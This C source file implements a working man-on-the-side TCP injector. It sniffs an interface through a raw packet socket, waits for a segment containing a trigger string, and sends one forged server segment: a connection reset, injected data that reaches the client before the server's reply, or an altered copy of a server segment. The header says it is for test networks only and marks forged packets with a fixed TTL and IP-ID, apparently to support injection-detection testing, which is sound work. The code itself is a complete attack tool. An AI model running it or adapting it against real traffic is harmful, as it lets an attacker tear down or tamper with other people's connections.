/*
 * A man on the side: watches one interface of the middle box and, when a
 * packet from the client or the server holds the given text, adds one forged
 * segment that seems to come from the server.
 *
 *	inject IFACE WHEN rst			reset the client
 *	inject IFACE WHEN data TEXT		send the client TEXT, before the server can
 *	inject IFACE WHEN copy FROM TO		send a copy of this server segment, altered
 *
 * rst and data are triggered by a client's segment and continue where the
 * client's acknowledgement stands; copy is triggered by a server's segment.
 * The forged packet has a TTL and an IP-ID of its own, as injectors have.
 * IPv4 over Ethernet, one shot, for test networks only.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <err.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define FORGED_TTL   37
#define FORGED_IP_ID 0x4d1d
#define PACKET_MAX   2048

enum { ETH = 14, IP = 20, TCP = 20, FLAG_RST = 4, FLAG_PSH = 8, FLAG_ACK = 16 };

/* A TCP segment as it was seen. */
struct seen {
	uint8_t packet[PACKET_MAX];
	size_t payload, len; /* where the payload starts, bytes in all */
};

static size_t
unescape(const char *s, uint8_t *out)
{
	size_t len = 0;

	for (; *s != '\0' && len < PACKET_MAX / 2; s++) {
		char c = *s;

		if (c == '\\' && s[1] != '\0') {
			c = *++s;
			c = (char)(c == 'r' ? '\r' : c == 'n' ? '\n' : c);
		}
		out[len++] = (uint8_t)c;
	}
	return len;
}

static uint32_t
get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void
put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint32_t
sum(const uint8_t *p, size_t len, uint32_t start)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		start += (uint32_t)p[i] << 8 | p[i + 1];
	if (len % 2 == 1)
		start += (uint32_t)p[len - 1] << 8;
	while (start > 0xffff)
		start = (start & 0xffff) + (start >> 16);
	return start;
}

/* Fill in lengths and checksums of a packet whose payload is in place. */
static void
seal(uint8_t *packet, size_t payload_len)
{
	uint8_t *ip = packet + ETH, *tcp = ip + IP;
	uint32_t tcp_len = (uint32_t)(TCP + payload_len);

	put16(ip + 2, IP + tcp_len);
	put16(ip + 10, 0);
	put16(ip + 10, ~sum(ip, IP, 0) & 0xffff);
	put16(tcp + 16, 0);
	put16(tcp + 16, ~sum(tcp, tcp_len, sum(ip + 12, 8, 6 + tcp_len)) & 0xffff);
}

/* Headers of a segment from the server to the client. to_client: s came from the client. */
static void
forge_headers(uint8_t *out, const struct seen *s, bool from_client, uint8_t flags)
{
	const uint8_t *ip = s->packet + ETH, *tcp = ip + (ip[0] & 15) * 4;
	uint32_t said = (uint32_t)(s->len - s->payload);
	uint8_t *oip = out + ETH, *otcp = oip + IP;

	memset(out, 0, ETH + IP + TCP);
	memcpy(out, s->packet + (from_client ? 6 : 0), 6);
	memcpy(out + 6, s->packet + (from_client ? 0 : 6), 6);
	put16(out + 12, ETHERTYPE_IP);
	oip[0] = 0x45;
	put16(oip + 4, FORGED_IP_ID);
	oip[8] = FORGED_TTL;
	oip[9] = 6;
	memcpy(oip + 12, ip + (from_client ? 16 : 12), 4);
	memcpy(oip + 16, ip + (from_client ? 12 : 16), 4);
	memcpy(otcp, tcp + (from_client ? 2 : 0), 2);
	memcpy(otcp + 2, tcp + (from_client ? 0 : 2), 2);
	put32(otcp + 4, get32(tcp + (from_client ? 8 : 4)));
	put32(otcp + 8, from_client ? get32(tcp + 4) + said : get32(tcp + 8));
	otcp[12] = 0x50;
	otcp[13] = flags;
	put16(otcp + 14, (flags & FLAG_RST) != 0 ? 0 : 8192);
}

/* Wait for a TCP segment that holds the text. */
static void
wait_for(int fd, const uint8_t *text, size_t len, struct seen *s)
{
	for (;;) {
		ssize_t n = recv(fd, s->packet, sizeof s->packet, 0);
		const uint8_t *ip = s->packet + ETH;

		if (n < ETH + IP + TCP || ip[0] >> 4 != 4 || ip[9] != 6)
			continue;
		s->len = ETH + ((size_t)ip[2] << 8 | ip[3]);
		s->payload = ETH + (size_t)(ip[0] & 15) * 4;
		s->payload += (size_t)(s->packet[s->payload + 12] >> 4) * 4;
		if (s->len > (size_t)n || s->payload >= s->len)
			continue;
		if (memmem(s->packet + s->payload, s->len - s->payload, text, len) != NULL)
			return;
	}
}

/* The server's segment again, with from replaced by to (of the same length). */
static size_t
alter(const struct seen *s, uint8_t *payload, char **arg)
{
	size_t len = s->len - s->payload;
	uint8_t from[PACKET_MAX], to[PACKET_MAX], *hit;
	size_t from_len = unescape(arg[0], from);

	if (unescape(arg[1], to) != from_len)
		errx(2, "copy: lengths differ");
	memcpy(payload, s->packet + s->payload, len);
	hit = memmem(payload, len, from, from_len);
	if (hit != NULL)
		memcpy(hit, to, from_len);
	return len;
}

int
main(int argc, char **argv)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	uint8_t when[PACKET_MAX], out[PACKET_MAX];
	struct seen s;
	size_t len = 0;
	int fd;

	if (argc < 4)
		errx(2, "usage: inject IFACE WHEN rst | data TEXT | copy FROM TO");
	alarm(30);
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	at.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (fd == -1 || bind(fd, (struct sockaddr *)&at, sizeof at) != 0)
		err(1, "%s", argv[1]);
	puts("ready");
	fflush(stdout);
	wait_for(fd, when, unescape(argv[2], when), &s);
	if (strcmp(argv[3], "rst") == 0)
		forge_headers(out, &s, true, FLAG_RST | FLAG_ACK);
	else if (strcmp(argv[3], "data") == 0 && argc > 4) {
		forge_headers(out, &s, true, FLAG_PSH | FLAG_ACK);
		len = unescape(argv[4], out + ETH + IP + TCP);
	} else if (strcmp(argv[3], "copy") == 0 && argc > 5) {
		forge_headers(out, &s, false, FLAG_PSH | FLAG_ACK);
		len = alter(&s, out + ETH + IP + TCP, argv + 4);
	} else
		errx(2, "%s: no such forgery", argv[3]);
	seal(out, len);
	if (send(fd, out, ETH + IP + TCP + len, 0) < 0)
		err(1, "send");
	return 0;
}
